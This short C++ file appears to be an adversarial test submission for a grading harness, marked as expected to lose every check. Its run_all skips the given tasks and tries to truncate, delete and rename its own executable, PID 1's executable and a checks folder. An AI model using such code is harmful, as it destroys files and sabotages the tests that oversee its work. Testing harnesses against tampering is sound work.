// Tries: writes over the program, its folder and the checks.
// loses: all
// says:
#include <unistd.h>
#include <cstdio>
#include <functional>
#include <string>
#include <vector>

using Tasks = std::vector<std::function<int()>>;

std::vector<int> run_all(const Tasks&) {
  for (const char* file : {"/proc/self/exe", "/proc/1/exe", "/proc/self/cwd/../checks"}) {
    char name[4096] = {};
    (void)!readlink(file, name, sizeof name - 1);
    for (const std::string& each : {std::string{file}, std::string{name}}) {
      (void)!truncate(each.c_str(), 0);
      unlink(each.c_str());
      rename(each.c_str(), "/tmp/mine");
    }
  }
  return {};
}
